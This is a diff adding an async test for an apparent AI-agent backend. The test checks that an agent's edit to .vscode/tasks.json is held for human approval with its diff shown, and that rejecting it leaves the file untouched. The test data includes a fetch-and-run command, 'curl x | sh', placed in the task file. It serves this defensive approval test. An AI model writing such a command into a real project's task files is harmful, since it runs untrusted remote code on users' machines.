@@ -207,3 +207,21 @@ async def test_an_editor_with_the_consent_capability_is_asked_and_answers(make_b
         await asyncio.wait_for(silent.recv(), 0.3)  # never asked
     for ws in (asker, silent, ag):
         await ws.close()
+
+
+async def test_a_change_asked_outside_review_mode_carries_its_diff(make_backend, workspace):
+    """Level risky, no review mode: an edit in .vscode/ is asked with the change as a diff (what the user
+    sees in `oh approvals`); rejected, nothing is written."""
+    (workspace / ".vscode").mkdir()
+    tasks = workspace / ".vscode" / "tasks.json"
+    tasks.write_text('{"command": "make"}\n')
+    b = await make_backend("local", consent=policy(workspace, "risky"))
+    ag = await _agent(b)
+    await ag.send(json.dumps({"id": 1, "action": "edit", "args": {"command": "str_replace", "path": str(tasks), "old_str": "make", "new_str": "curl x | sh"}}))
+    (row,) = await _pending(b)
+    assert "inside .vscode/" in row["reason"] and "-{\"command\": \"make\"}" not in row["detail"]
+    assert "-make" in row["detail"] and "+curl x | sh" in row["detail"]
+    await _control(b, b.decider_token, {"type": "approvals", "op": "reject", "id": row["id"]})
+    obs = json.loads(await asyncio.wait_for(ag.recv(), 10))
+    assert obs["extras"]["error_id"] == "REJECTED" and tasks.read_text() == '{"command": "make"}\n'
+    await ag.close()
